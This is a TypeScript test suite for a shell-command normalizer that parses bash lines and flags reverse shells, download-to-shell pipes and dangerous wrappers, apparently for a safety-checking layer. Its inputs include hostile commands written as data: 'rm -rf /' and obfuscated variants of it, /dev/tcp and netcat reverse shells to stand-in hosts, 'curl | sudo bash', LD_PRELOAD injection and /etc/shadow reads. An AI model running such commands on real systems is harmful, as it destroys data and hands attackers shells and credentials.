// Behaviour of the shell normalizer on hand-picked lines.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { Ajv } from 'ajv';
import { initShell, normalizeShell, shellActionSchema, type ShellAction, type ShellOptions } from '../../src/actions/shell/index.ts';

await initShell();
const validate = new Ajv({ allErrors: true, strict: true }).compile(shellActionSchema);

function doc(line: string, opts?: ShellOptions): ShellAction {
  const d = normalizeShell(line, opts);
  assert.ok(validate(d), `schema: ${JSON.stringify(validate.errors)} for ${JSON.stringify(line)}`);
  return d;
}
const q = (w: unknown): string => (typeof w === 'string' ? w : '?');
/** Every command as 'argv joined by spaces', '?' for unknown words. */
const cmds = (line: string, opts?: ShellOptions): string[] => {
  const d = doc(line, opts);
  assert.is(d.parse_error, undefined, `unexpected parse_error for ${JSON.stringify(line)}: ${JSON.stringify(d.parse_error)}`);
  return d.commands.map((c) => c.argv.map(q).join(' '));
};
const err = (line: string, opts?: ShellOptions): string => {
  const d = doc(line, opts);
  assert.ok(d.parse_error, `expected a parse_error for ${JSON.stringify(line.slice(0, 80))}, got ${JSON.stringify(d.commands.map((c) => c.argv)).slice(0, 200)}`);
  assert.equal(d.commands, []);
  return d.parse_error!.code;
};

test('quote removal gives the real program name', () => {
  for (const l of ['rm -rf /', '\\rm -rf /', "r''m -rf /", '"rm" -rf /', 'r\\m -rf /', "$'\\x72\\x6d' -rf /", "$'\\162\\155' -rf /", 'r"m" -rf /']) {
    const d = doc(l);
    assert.is(d.commands[0]!.program, 'rm', l);
    assert.equal(d.commands[0]!.argv, ['rm', '-rf', '/'], l);
  }
});

test('dynamic words are unknown, never guessed', () => {
  assert.equal(cmds('$CMD --force'), ['? --force']);
  assert.equal(cmds('rm -rf /*'), ['rm -rf ?']);
  assert.equal(cmds('/???/??m -rf /'), ['? -rf /']);
  assert.equal(cmds('echo ~/x a{b,c} {1..3} $((1+2)) "$HOME" ${x}'), ['echo ? ? ? ? ? ?']);
  assert.equal(cmds("echo '*' \\* \"~\" {} a,b [x"), ['echo * * ~ {} a,b [x']);
  const d = doc('$(echo rm) -rf /');
  assert.is(d.commands[0]!.program, null);
  assert.is(d.commands[0]!.unknown_program, true);
  assert.equal(d.commands[0]!.argv[0], { unknown: true, text: '$(echo rm)' });
});

test('nested commands are found with their context', () => {
  const d = doc('echo $(a) `b` <(c) >(d) "$(e)" ${X:-$(f)}; (g); { h; }; i() { j; }; [[ $(k) ]]; X=$(l); if m; then n; fi');
  const ctx = Object.fromEntries(d.commands.map((c) => [c.argv.map(q).join(' '), c.context]));
  assert.equal(ctx, {
    'echo ? ? ? ? ? ?': 'top', a: 'command_substitution', b: 'backticks', c: 'process_substitution', d: 'process_substitution',
    e: 'command_substitution', f: 'command_substitution', g: 'subshell', h: 'group', j: 'function', k: 'command_substitution',
    l: 'command_substitution', m: 'if', n: 'if',
  });
  assert.equal(d.commands.find((c) => c.argv[0] === 'k')!.contexts, ['test', 'command_substitution']);
  assert.equal(cmds('cat <<EOF\n$(id) ${x:-$(whoami)}\nEOF'), ['cat', 'id', 'whoami']);
  assert.equal(cmds("cat <<'EOF'\n$(id)\nEOF"), ['cat']);
  assert.equal(cmds('cat <<< "$(id)"'), ['cat', 'id']);
  assert.equal(cmds('for f in $(ls); do cat "$f"; done'), ['ls', 'cat ?']);
  assert.equal(cmds('case $(a) in x) b;; esac'), ['a', 'b']);
  assert.equal(cmds('echo $(( $(id) + 1 ))'), ['echo ?', 'id']);
});

test('lists, pipelines and separators', () => {
  assert.equal(cmds('true && rm -rf / || echo fail'), ['true', 'rm -rf /', 'echo fail']);
  assert.equal(cmds('echo hi&rm -rf /'), ['echo hi', 'rm -rf /']);
  assert.equal(cmds('echo a#b; rm x # ; rm y'), ['echo a#b', 'rm x']);
  assert.equal(cmds('a |& b\nc'), ['a', 'b', 'c']);
  assert.equal(cmds('! a | b'), ['a', 'b']);
});

test('redirections: words after a redirection stay arguments', () => {
  const d = doc('rm > /dev/null -rf /');
  assert.equal(d.commands[0]!.argv, ['rm', '-rf', '/']);
  assert.equal(d.redirections, [{ op: '>', dir: 'w', fd: null, target: '/dev/null' }]);
  const e = doc('bash -i >& /dev/tcp/1.2.3.4/4444 0>&1');
  assert.equal(e.commands[0]!.argv, ['bash', '-i']);
  assert.equal(e.redirections.map((r) => [r.dir, r.fd, r.target]), [['w', null, '/dev/tcp/1.2.3.4/4444'], ['dup', 0, '1']]);
  assert.is(e.network.reverse_shell, true);
  assert.is(e.network.dev_tcp, true);
  assert.equal(e.network.hosts, ['1.2.3.4']);
  assert.equal(doc('echo a >f 2>&1 b').commands[0]!.argv, ['echo', 'a', 'b']);
  assert.equal(doc('x 2>/dev/null >&- <in').redirections.map((r) => [r.dir, r.fd, r.target]), [['w', 2, '/dev/null'], ['close', null, '-'], ['r', null, 'in']]);
  assert.equal(doc('a | b > f').commands[1]!.redirections.map((r) => r.target), ['f']);
  assert.equal(doc('while read l; do :; done < f').redirections.map((r) => r.target), ['f']);
  assert.equal(doc('echo > $(mktemp)').commands.map((c) => c.argv.map(q).join(' ')), ['echo', 'mktemp']);
});

test('line continuation inside a word joins it, as bash does', () => {
  assert.equal(cmds('r\\\nm -rf /'), ['rm -rf /']);
  assert.equal(cmds('echo a \\\n b'), ['echo a b']);
  assert.equal(cmds("echo 'a\\\nb'"), ['echo a\\\nb']);
  assert.equal(cmds('echo a\\\\\nrm x'), ['echo a\\', 'rm x']);
  const d = doc('r\\\nm -rf / $(');
  assert.is(d.parse_error?.code, 'syntax_error');
});

test('assignments are surfaced', () => {
  const d = doc('LD_PRELOAD=/scratch/evil.so ls; PATH=/scratch:$PATH; export BASH_ENV=/x A; env -i FOO=1 rm x');
  assert.equal(d.assignments.map((a) => [a.name, q(a.value), a.kind, a.command]), [
    ['PATH', '?', 'statement', null],
    ['LD_PRELOAD', '/scratch/evil.so', 'prefix', 0],
    ['BASH_ENV', '/x', 'declaration', 1],
    ['FOO', '1', 'env', 3],
  ]);
  assert.equal(d.commands[0]!.assignments.map((a) => a.name), ['LD_PRELOAD']);
  assert.equal(cmds('X=$(rm -rf /)'), ['rm -rf /']);
  assert.equal(cmds('a=(1 $(id))'), ['id']);
});

test('wrappers are unwrapped, with the chain in via', () => {
  const eff = (l: string): string[] => doc(l).commands.map((c) => `${c.via.join('>')}|${c.argv.map(q).join(' ')}`);
  assert.equal(eff('sudo -u root -E rm -rf /'), ['|sudo -u root -E rm -rf /', 'sudo|rm -rf /']);
  assert.equal(eff('env -u X FOO=1 timeout -s KILL 5 nohup nice -n 5 rm x'), [
    '|env -u X FOO=1 timeout -s KILL 5 nohup nice -n 5 rm x',
    'env|timeout -s KILL 5 nohup nice -n 5 rm x', 'env>timeout|nohup nice -n 5 rm x', 'env>timeout>nohup|nice -n 5 rm x', 'env>timeout>nohup>nice|rm x',
  ]);
  assert.equal(eff('bash -lc "rm -rf / && id"'), ['|bash -lc rm -rf / && id', 'bash -c|rm -rf /', 'bash -c|id']);
  assert.equal(eff("sh -c 'sudo sh -c \"rm x\"'").slice(-1), ['sh -c>sudo>sh -c|rm x']);
  assert.equal(eff('eval "rm -rf /"'), ['|eval rm -rf /', 'eval|rm -rf /']);
  assert.equal(eff('eval "$X"'), ['|eval ?', 'eval|?']);
  assert.equal(eff('xargs -0 rm -f'), ['|xargs -0 rm -f', 'xargs|rm -f ?']);
  assert.equal(eff('find . -name x -execdir chmod 777 {} + -exec rm {} \\;').slice(1), ['find -execdir|chmod 777 ?', 'find -exec|rm ?']);
  assert.equal(eff("ssh -p 22 -i k user@host 'rm -rf /'"), ["|ssh -p 22 -i k user@host rm -rf /", 'ssh|rm -rf /']);
  assert.equal(eff("su - root -c 'id'"), ['|su - root -c id', 'su -c|id']);
  assert.equal(eff('exec rm x; time -p rm y; command -v rm; command rm z'), ['|exec rm x', 'exec|rm x', '|time -p rm y', 'time|rm y', '|command -v rm', '|command rm z', 'command|rm z']);
  assert.equal(eff('sudo $X'), ['|sudo ?', 'sudo|?']);
  assert.equal(eff('sudo --bogus rm'), ['|sudo --bogus rm', 'sudo|?']);
  assert.equal(eff('watch -n 1 "rm x"'), ['|watch -n 1 rm x', 'watch|rm x']);
});

test('shells reading a heredoc or here-string run it', () => {
  const eff = (l: string): string[] => doc(l).commands.map((c) => `${c.via.join('>')}|${c.argv.map(q).join(' ')}`);
  assert.equal(eff('bash <<EOF\nrm -rf /\nEOF'), ['|bash', 'bash <stdin|rm -rf /']);
  assert.equal(eff("sh <<< 'rm x; id'"), ['|sh', 'sh <stdin|rm x', 'sh <stdin|id']);
  assert.equal(eff('sh -s a <<-"E"\n\trm $x\n\tE'), ['|sh -s a', 'sh <stdin|rm ?']);
  assert.equal(eff('bash <<EOF\n$(id)\nEOF'), ['|bash', 'bash <stdin|?', '|id']);
  assert.equal(eff('bash script.sh <<< "rm x"'), ['|bash script.sh']);
  const h = doc("cat <<'EOF'\n$(rm -rf /)\nEOF").redirections[0]!;
  assert.equal(h, { op: '<<', dir: 'heredoc', fd: null, target: '$(rm -rf /)\n', expanded: false });
  // leading blank lines and indentation are part of the text bash feeds, on both paths
  for (const fastPath of [true, false]) {
    const body = (l: string): unknown => normalizeShell(l, { fastPath }).redirections[0]?.target;
    assert.is(body('cat <<EOF\n\n\n  x\nEOF'), '\n\n  x\n');
    assert.is(body('cat <<-EOF\n\t\n\tx\n\tEOF'), '\nx\n');
    assert.is(body('cat <<EOF | wc  \n\nx\nEOF'), '\nx\n');
    // the grammar leaves `$x` unparsed in a body whose first line is indented
    assert.equal(body('cat <<EOF\n $x\nEOF'), { unknown: true, text: ' $x\n' });
  }
});

test('unwrapping depth is capped', () => {
  let line = 'rm x';
  for (let i = 0; i < 12; i++) line = `sudo ${line}`;
  assert.is(err(line), 'too_deep');
  assert.is(doc(line, { maxUnwrap: 20 }).parse_error, undefined);
});

test('payload parse errors fail the whole line', () => {
  assert.is(err('bash -c "echo \\"unterminated"'), 'syntax_error');
});

test('interpreter code and SQL payloads', () => {
  assert.equal(doc('python3 -u -c "import os; os.system(1)"').commands[0]!.code, { language: 'python', text: 'import os; os.system(1)' });
  assert.equal(doc("perl -e 'print 1' -e 'exit'").commands[0]!.code, { language: 'perl', text: 'print 1\nexit' });
  assert.equal(doc("node -e 'x()'").commands[0]!.code, { language: 'node', text: 'x()' });
  assert.equal(doc("ruby -e 'x'").commands[0]!.code, { language: 'ruby', text: 'x' });
  assert.equal(doc("awk -F: '{print $1}' /etc/passwd").commands[0]!.code, { language: 'awk', text: '{print $1}' });
  const seen: string[] = [];
  const d = doc("psql -h db -c 'DROP TABLE x' -c \"SELECT 1\"; mysql -u r --execute='DELETE FROM t'", {
    sql: (text, dialect) => {
      seen.push(`${dialect}:${text}`);
      return { kind: 'sql', text };
    },
  });
  assert.equal(seen, ['postgresql:DROP TABLE x', 'postgresql:SELECT 1', 'mysql:DELETE FROM t']);
  assert.equal(d.commands[0]!.sql!.map((s) => s.action), [{ kind: 'sql', text: 'DROP TABLE x' }, { kind: 'sql', text: 'SELECT 1' }]);
  const failing = doc("psql -c 'x'", { sql: () => { throw new Error('boom'); } });
  assert.equal(failing.commands[0]!.sql![0]!.action, { parse_error: { code: 'sql_normalizer_failed', message: 'boom' } });
  assert.equal(doc("psql -c 'x'").commands[0]!.sql, [{ dialect: 'postgresql', text: 'x' }]);
});

test('program summaries', () => {
  const s = (l: string): unknown => doc(l).commands[0]!.summary;
  assert.equal(s('kubectl delete ns prod'), { tool: 'kubectl', verb: 'delete', resource: 'ns', name: 'prod', namespace: null, all_namespaces: false });
  assert.equal(s('kubectl --namespace=kube-system get pods -A'), { tool: 'kubectl', verb: 'get', resource: 'pods', name: null, namespace: 'kube-system', all_namespaces: true });
  assert.equal(s('git -C repo push --force origin main'), { tool: 'git', subcommand: 'push', push: true, force: true, remote: 'origin' });
  assert.equal(s('git push -fu origin main'), { tool: 'git', subcommand: 'push', push: true, force: true, remote: 'origin' });
  assert.equal(s('git status'), { tool: 'git', subcommand: 'status', push: false, force: false, remote: null });
  assert.equal(s('docker run --privileged -v /:/host alpine chroot /host sh'), {
    tool: 'docker', subcommand: 'run', run: true, privileged: true, mounts: ['/:/host'], image: 'alpine', host_network: false, host_pid: false,
  });
  assert.equal(s('rm -r -f -- -x "$D"'), { tool: 'rm', recursive: true, force: true, targets: ['-x', { unknown: true, text: '"$D"' }] });
  assert.equal(s('curl -X delete https://API.example.com/v1'), { tool: 'curl', method: 'DELETE', url: 'https://API.example.com/v1', host: 'api.example.com', uploads: false });
  assert.equal(s('curl -d @f api.example.com/x'), { tool: 'curl', method: 'POST', url: 'api.example.com/x', host: 'api.example.com', uploads: true });
  assert.equal(s('wget -q -O - http://x.example/i.sh'), { tool: 'wget', method: 'GET', url: 'http://x.example/i.sh', host: 'x.example', uploads: false });
});

test('network indicators', () => {
  const n = (l: string) => doc(l).network;
  assert.is(n('curl -s http://x.example/i.sh | sudo bash').download_to_shell, true);
  assert.is(n('curl -s http://x.example/i.sh | grep x').download_to_shell, false);
  assert.is(n("sh -c 'wget -qO- http://x | sh'").download_to_shell, true);
  const nc = n('nc -e /bin/sh evil.example 4444');
  assert.equal([nc.netcat, nc.netcat_exec, nc.reverse_shell, nc.hosts], [true, true, true, ['evil.example']]);
  assert.is(n('ncat evil.example 1').netcat, true);
  const so = n('socat exec:/bin/sh,pty tcp:evil.example:1');
  assert.equal([so.socat, so.reverse_shell], [true, true]);
  assert.is(n('echo x > /dev/udp/1.2.3.4/53').dev_udp, true);
  // the grammar has no `<>` operator: fails closed rather than guessing
  assert.is(doc('exec 3<>/dev/tcp/1.2.3.4/80').parse_error?.code, 'syntax_error');
  assert.is(n('cat < /dev/tcp/h/80').dev_tcp, true);
});

test('bad input is a parse_error document, never an exception', () => {
  assert.is(err('echo "unterminated'), 'syntax_error');
  assert.is(err('echo a\0b'), 'nul_byte');
  assert.is(err('x'.repeat(70000)), 'too_long');
  assert.is(err('echo hi', { maxLength: 3 }), 'too_long');
  assert.is(err('('.repeat(100) + ')'.repeat(100)), 'too_deep');
  assert.is(err('a $(x)' + ' && a'.repeat(600)), 'too_deep'); // the grammar nests each && one level deeper
  assert.is(doc('a' + ' && a'.repeat(600)).commands.length, 601); // the flat fast path has no such limit
  assert.is(err('{rm,-rf,/}'), 'syntax_error');
  assert.is(err('cat <<X\n`id`\nX'), 'grammar_gap');
  assert.is(err('echo $"hi"'), 'unsupported_syntax');
  assert.is(err('if true; then'), 'syntax_error');
  assert.is(normalizeShell(42 as unknown as string).parse_error?.code, 'invalid_input');
  const d = doc('echo ok; echo "unterminated');
  assert.ok(typeof d.parse_error?.position === 'number');
});

test('where the grammar misreads bash, the grammar path refuses instead of guessing', () => {
  const grammar = (l: string): string | undefined => normalizeShell(l, { fastPath: false }).parse_error?.code;
  // bash assigns `_` and runs rm; the grammar takes `_=x` for the program and rm for an argument
  assert.is(grammar('_=x rm -rf /'), 'grammar_gap');
  assert.equal(doc('_=x rm -rf /').commands.map((c) => c.program), ['rm']);
  // bash runs `a` with the redirection; the grammar hangs `> a a` on a bare assignment
  assert.is(grammar('! Z=$(h) > a a'), 'grammar_gap');
  assert.equal(doc('! Z=$(h) > a a').commands.map((c) => c.program), ['a', 'h']);
  // arithmetic, not a subshell running `a`
  assert.is(grammar('cat ${X:-$(( a ))}'), 'grammar_gap');
  assert.equal(doc('cat ${X:-$(( a ))}').commands.map((c) => c.program), ['cat']);
  // after `!` the grammar reads export as a plain command, which would hide the assignment
  assert.is(grammar('! export LD_PRELOAD=/x.so'), 'grammar_gap');
  assert.equal(doc('! export LD_PRELOAD=/x.so').assignments.map((a) => a.name), ['LD_PRELOAD']);
  // `$$` is the pid: `(id)` is text in a heredoc, and nothing runs
  assert.is(grammar('cat <<EOF\n;$$(id)\nEOF'), 'grammar_gap');
  assert.equal(doc('cat <<EOF\n;$$(id)\nEOF').commands.map((c) => c.program), ['cat']);
  assert.equal(doc('cat <<EOF\n$$$(id)\nEOF').commands.map((c) => c.program), ['cat', 'id']);
  // one pipeline to bash, whatever the grammar nests: curl's output goes to `-`, not to bash
  const piped = normalizeShell('curl h | - > f | sudo bash', { fastPath: false });
  assert.equal([piped.commands.map((c) => c.program), piped.network.download_to_shell], [['curl', '-', 'sudo', 'bash'], false]);
  assert.is(normalizeShell('curl h > f | sudo bash', { fastPath: false }).network.download_to_shell, true);
  // `EOF2>…` does not end a heredoc delimited by EOF: the line is text
  assert.is(grammar("cat <<'EOF'\nEOF2>$(rm -rf /)\nEOF"), 'grammar_gap');
  assert.equal(doc("cat <<'EOF'\nEOF2>$(rm -rf /)\nEOF").commands.map((c) => c.program), ['cat']);
  assert.is(grammar('cat <<EOF\n$(id)EOF\nEOF'), 'grammar_gap');
  assert.equal(doc('cat <<EOF\n$(id)EOF\nEOF').commands.map((c) => c.program), ['cat', 'id']);
  // the grammar's backtick token can start with the blank before it
  assert.equal(normalizeShell('echo " `r`m"', { fastPath: false }).commands.map((c) => c.context), ['top', 'backticks']);
  // `curl && a &> f |& sh` pipes a, not curl, into sh
  assert.is(grammar('curl h && a &> f |& sh'), 'grammar_gap');
  assert.is(doc('curl h && a &> f |& sh').network.download_to_shell, false);
});

test('[ is a command, [[ is syntax', () => {
  assert.equal(cmds('if [ -f /etc/shadow ]; then cat /etc/shadow; fi'), ['[ -f /etc/shadow ]', 'cat /etc/shadow']);
  assert.equal(cmds('[ "$a" = b -o ! -d c ]'), ['[ ? = b -o ! -d c ]']);
  assert.equal(cmds('[[ -f x && $(id) ]]'), ['id']);
});

test.run();
